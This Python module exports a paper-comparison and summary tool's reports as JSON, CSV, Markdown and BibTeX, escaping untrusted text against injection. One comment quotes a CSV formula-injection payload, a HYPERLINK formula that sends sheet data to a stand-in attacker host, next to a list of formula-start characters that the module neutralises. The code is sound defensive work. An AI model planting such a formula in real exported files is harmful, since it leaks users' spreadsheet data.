"""Every output format of the reports in one place: comparisons as JSON, CSV and Markdown; summaries
as JSON, Markdown, BibTeX and CSV (the references); `describe` for the terminal.

Untrusted text (titles, authors, cells, model output) is Markdown-escaped with assistant.text's
`md_escape`, the escaper the UI uses, and links are written only when `safe_url` accepts them
(http/https), so an exported file is as inert as the page that offered it. A CSV cell never starts
a spreadsheet formula (`csv_cell`). BibTeX is written by bibtexparser, its text fields LaTeX-escaped by
pylatexenc, and every value's braces balanced as BibTeX counts them (see the BibTeX part).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from functools import lru_cache
from typing import Any

from assistant.models import NOT_STATED, Comparison, Paper, Reference, SentenceCheck, Summary
from assistant.reports.summary.themes import NAMING_STOP
from assistant.text import md_escape, md_escape_cited, normalize_space, safe_url


# --- comparisons -----------------------------------------------------------------------------------
def comparison_json(c: Comparison) -> dict[str, Any]:
    """The public JSON: {"aspects", "papers": [{"id", "title", "cells" (text, quote, verdict, score,
    judge), "fallback_reason"}], "synthesis", "mode", "fallback_reason", "sentences" (the synthesis's
    checks), "notes"}. `mode` is "llm" or "extractive"; the top-level
    `fallback_reason` says why a whole table is the offline one, a paper's why its row is."""
    return {
        "aspects": list(c.aspects),
        "papers": [
            {
                "id": p.id,
                "title": p.title,
                "cells": {a: p.cells[a].model_dump() for a in c.aspects},
                "fallback_reason": p.fallback_reason,
            }
            for p in c.papers
        ],
        "synthesis": c.synthesis,
        "mode": c.mode,
        "fallback_reason": c.fallback_reason,
        "sentences": [x.model_dump() for x in c.sentences],
        "notes": list(c.notes),
    }


# A spreadsheet runs a cell that starts with "=", "+", "-" or "@" as a formula (tab and CR can hide
# such a start): `=HYPERLINK("http://evil.example/?x="&A1,"Click")` in a title would send the sheet's
# data away. OWASP's fix: a leading single quote, which the spreadsheet shows as text.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """A CSV cell that a spreadsheet shows as text, never runs as a formula (numbers stay numbers)."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def _csv_row(writer: Any, row: Sequence[object]) -> None:
    writer.writerow([csv_cell(v) for v in row])


def comparison_csv(c: Comparison) -> str:
    """One row per paper: id, title, then per aspect its text ("not stated") and its quote."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    _csv_row(writer, ["id", "title", *[col for a in c.aspects for col in (a, f"{a} quote")]])
    for p in c.papers:
        row = [p.id, p.title]
        for a in c.aspects:
            cell = p.cells[a]
            row += [cell.text or NOT_STATED, cell.quote or ""]
        _csv_row(writer, row)
    return buf.getvalue()


def comparison_markdown(c: Comparison) -> str:
    """The table (one row per paper), the supporting quotes (LLM mode), the synthesis and the papers."""
    head = "| # | Paper | " + " | ".join(md_escape(a) for a in c.aspects) + " |"
    rule = "|---|---|" + "---|" * len(c.aspects)
    lines = ["# Comparison", "", head, rule]
    for n, p in enumerate(c.papers, start=1):
        cells = [_cell_md(p.cells[a].text, p.cells[a].verdict) for a in c.aspects]
        lines.append(f"| {n} | {md_escape(p.title)} | " + " | ".join(cells) + " |")
    notes = [(n, p.fallback_reason) for n, p in enumerate(c.papers, start=1) if p.fallback_reason]
    if c.fallback_reason or notes:
        lines.append("")
    if c.fallback_reason:
        lines.append(f"*The offline extractive table: {md_escape(c.fallback_reason)}.*")
    lines += [f"*Row {n}: {md_escape(reason)}.*" for n, reason in notes]
    lines += [f"*{md_escape(note)}*" for note in c.notes]
    if c.mode == "llm":
        lines += ["", "## Supporting quotes", ""]
        for n, p in enumerate(c.papers, start=1):
            for a in c.aspects:
                if p.cells[a].quote:
                    lines.append(f"- [{n}] {md_escape(a)}: “{md_escape(p.cells[a].quote or '')}”")
    if c.synthesis:
        lines += ["", "## Synthesis", ""]
        if c.mode == "llm":
            lines.append(md_escape_cited(c.synthesis))
        else:
            lines += [f"- {md_escape_cited(line)}" for line in c.synthesis.splitlines() if line.strip()]
    lines += checked_markdown(c.sentences)
    lines += ["", "## Papers", ""]
    lines += [f"{n}. {md_escape(p.title)} ({md_escape(p.id)})" for n, p in enumerate(c.papers, start=1)]
    return "\n".join(lines) + "\n"


def _cell_md(text: str | None, verdict: str | None) -> str:
    if not text:
        return f"*{NOT_STATED}*"
    return md_escape(text) + (" *(partly supported)*" if verdict == "partly_supported" else "")


def checked_markdown(checks: Sequence[SentenceCheck]) -> list[str]:
    """"## Checked sentences": each cited sentence with its verdict, score, judge and the quote that
    bears it out (the verification core's, as every face shows them)."""
    if not checks:
        return []
    lines = ["", "## Checked sentences", ""]
    for c in checks:
        cites = "".join(f"[{n}]" for n in c.cites)
        where = f", p. {c.page}" if c.page else ""
        verdict = c.verdict.replace("_", " ") + ("" if c.shown else ", left out")
        quote = f" — “{md_escape(c.quote)}”{where}" if c.quote else ""
        lines.append(f"- “{md_escape(c.text)}” {cites}: **{verdict}** ({c.score:.2f}, {c.judge}){quote}")
    return lines


# --- summaries -------------------------------------------------------------------------------------
def summary_json(s: Summary) -> dict[str, Any]:
    """{"title", "overview", "sections": [{"heading", "paragraphs"}], "references": [{"n", "id",
    "title", "authors", "year", "url"}], "mode", "fallback_reason", "sentences" (each cited sentence's
    verdict), "notes"}; a URL that is not http(s) is
    written as ""."""
    return {
        "title": s.title,
        "overview": s.overview,
        "sections": [{"heading": sec.heading, "paragraphs": list(sec.paragraphs)} for sec in s.sections],
        "mode": s.mode,
        "fallback_reason": s.fallback_reason,
        "sentences": [c.model_dump() for c in s.sentences],
        "notes": list(s.notes),
        "references": [
            {
                "n": r.n,
                "id": r.id,
                "title": r.title,
                "authors": list(r.authors),
                "year": r.year,
                "url": safe_url(r.url) or "",
            }
            for r in s.references
        ],
    }


def _authors_line(authors: Sequence[str], limit: int = 6) -> str:
    names = [normalize_space(a) for a in authors if a.strip()]
    if not names:
        return ""
    return ", ".join(names[:limit]) + (" et al." if len(names) > limit else "")


def summary_markdown(s: Summary) -> str:
    """Title, overview, a section per theme, numbered references (links only when http/https)."""
    lines = [f"# {md_escape(s.title)}", "", md_escape_cited(s.overview), ""]
    for sec in s.sections:
        lines += [f"## {md_escape(sec.heading)}", ""]
        for p in sec.paragraphs:
            lines += [md_escape_cited(p), ""]
    if s.fallback_reason or s.notes:
        reason = [f"*Offline (extractive) summary: {md_escape(s.fallback_reason)}.*"] if s.fallback_reason else []
        lines += [*reason, *(f"*{md_escape(n)}*" for n in s.notes), ""]
    lines += ["## References", ""]
    for r in s.references:
        parts = [md_escape(_authors_line(r.authors))] if r.authors else []
        if r.year:
            parts.append(f"({r.year})")
        parts.append(f"*{md_escape(r.title)}*.")
        url = safe_url(r.url)
        if url:
            parts.append(f"<{url}>")
        lines.append(f"{r.n}. " + " ".join(parts))
    lines += checked_markdown(s.sentences)
    return "\n".join(lines) + "\n"


def summary_csv(s: Summary) -> str:
    """The summary's numbered references, one row each: n, id, title, authors (`; `), year, url (http/https)."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(["n", "id", "title", "authors", "year", "url"])
    for r in s.references:
        _csv_row(writer, [r.n, r.id, r.title, "; ".join(a for a in r.authors if a.strip()), r.year or "",
                          safe_url(r.url) or ""])
    return buf.getvalue()


# --- BibTeX -----------------------------------------------------------------------------------------
# bibtexparser writes the entries; pylatexenc (bibtexparser's own LaTeX encoder) escapes the text fields.
# Not its default table as bibtexparser's LatexEncodingMiddleware uses it, measured on 1,114 characters
# (ASCII, Latin, Greek, punctuation, maths) put through it and back through our BibTeX loader: 87 come
# back as another character ('"' as '”', 'Ű' as 'Ú', Greek capitals as Latin letters, thin spaces as
# nothing), and the middleware keeps $…$ as maths, which the loader reads as text ("$cost$" → "cost").
# So non-ASCII text and '"' are written as they are (the file is UTF-8, as biber and LaTeX read it),
# and only ASCII that LaTeX reads as syntax is escaped: {\%} {\&} {\$} {\#} {\_} {\textbackslash} ….
def _as_written(text: str, pos: int) -> tuple[int, str] | None:
    return (1, text[pos]) if text[pos] == '"' or ord(text[pos]) > 127 else None


@lru_cache(maxsize=1)
def _bib_format() -> Any:
    from bibtexparser import BibtexFormat

    out = BibtexFormat()
    out.indent = "  "
    out.block_separator = "\n"  # each entry ends with a newline: one blank line between entries
    return out


@lru_cache(maxsize=1)
def _latex_encoder() -> Any:
    from pylatexenc.latexencode import RULE_CALLABLE, UnicodeToLatexConversionRule, UnicodeToLatexEncoder

    keep = UnicodeToLatexConversionRule(RULE_CALLABLE, _as_written)
    return UnicodeToLatexEncoder(conversion_rules=[keep, "defaults"], replacement_latex_protection="braces")


def _paired_braces(text: str) -> str:
    r"""`text` without the braces that do not pair up. pylatexenc writes a brace as `{\{}`, which
    bibtexparser reads back, but BibTeX itself counts escaped braces too: measured with BibTeX 0.99d,
    `title = {Open {\{} only}` runs on past its entry's end (the next entry is lost), while a pair
    (`{\{}and{\}}`) is read as written. A lone brace in a title is extraction debris: it is dropped."""
    unpaired: set[int] = set()
    opened: list[int] = []
    for i, ch in enumerate(text):
        if ch == "{":
            opened.append(i)
        elif ch == "}":
            if opened:
                opened.pop()
            else:
                unpaired.add(i)
    unpaired.update(opened)
    return "".join(ch for i, ch in enumerate(text) if i not in unpaired) if unpaired else text


def _bib_text(text: str) -> str:
    """A text field's value (title, author, journal, note): what LaTeX would read as syntax escaped."""
    return str(_latex_encoder().unicode_to_latex(normalize_space(_paired_braces(text))))


def _bib_name(name: str) -> str:
    """One author; a name with "and" in it (a corporate author) braced, so it stays one author."""
    value = _bib_text(name)
    return f"{{{value}}}" if re.search(r"\band\b", name, re.IGNORECASE) else value


def _bib_verbatim(text: str) -> str:
    """A DOI or an arXiv id as written (doi.org's and Zotero's BibTeX do the same), without braces or
    backslashes, which no valid one holds and which would unbalance the value."""
    return re.sub(r"[{}\\]", "", normalize_space(text))


def _bib_key(p: Reference, taken: set[str]) -> str:
    surname = re.sub(r"[^A-Za-z]", "", (p.authors[0].split(",")[0].split()[-1] if p.authors else "")) or "paper"
    word = next((w for w in re.findall(r"[A-Za-z]{4,}", p.title) if w.lower() not in NAMING_STOP), "untitled")
    base = f"{surname.lower()}{p.year or ''}{word.lower()}"
    key, n = base, 1
    while key in taken:
        n += 1
        key = f"{base}{chr(ord('a') + n - 2) if n <= 27 else n}"
    taken.add(key)
    return key


def summary_bibtex(s: Summary, papers: Sequence[Paper] = ()) -> str:
    """BibTeX of the cited papers, in reference order (doi, arXiv id and venue when the library has them)."""
    import bibtexparser
    from bibtexparser.model import Block, Entry, Field

    extra = {p.id: p for p in papers}
    taken: set[str] = set()
    entries: list[Block] = []
    for r in s.references:
        p = extra.get(r.id)
        fields = [Field("title", _bib_text(r.title))]
        if r.authors:
            fields.append(Field("author", " and ".join(_bib_name(a) for a in r.authors if a.strip())))
        if r.year:
            fields.append(Field("year", str(r.year)))
        if p is not None and p.venue:
            fields.append(Field("journal", _bib_text(p.venue)))
        if p is not None and p.doi:
            fields.append(Field("doi", _bib_verbatim(p.doi)))
        if p is not None and p.arxiv_id:
            fields += [Field("eprint", _bib_verbatim(p.arxiv_id)), Field("archiveprefix", "arXiv")]
        url = safe_url(r.url)
        if url:
            fields.append(Field("url", url.replace("{", "%7B").replace("}", "%7D")))
        fields.append(Field("note", _bib_text(f"Reference [{r.n}]; library id {r.id}")))
        kind = "article" if p is not None and p.venue else "misc"
        entries.append(Entry(kind, _bib_key(r, taken), fields))
    if not entries:
        return ""
    return bibtexparser.write_string(bibtexparser.Library(entries), bibtex_format=_bib_format())


def describe(s: Summary) -> str:
    """One line for the terminal after writing files."""
    return f"{len(s.sections)} sections, {len(s.references)} references ({s.mode})"
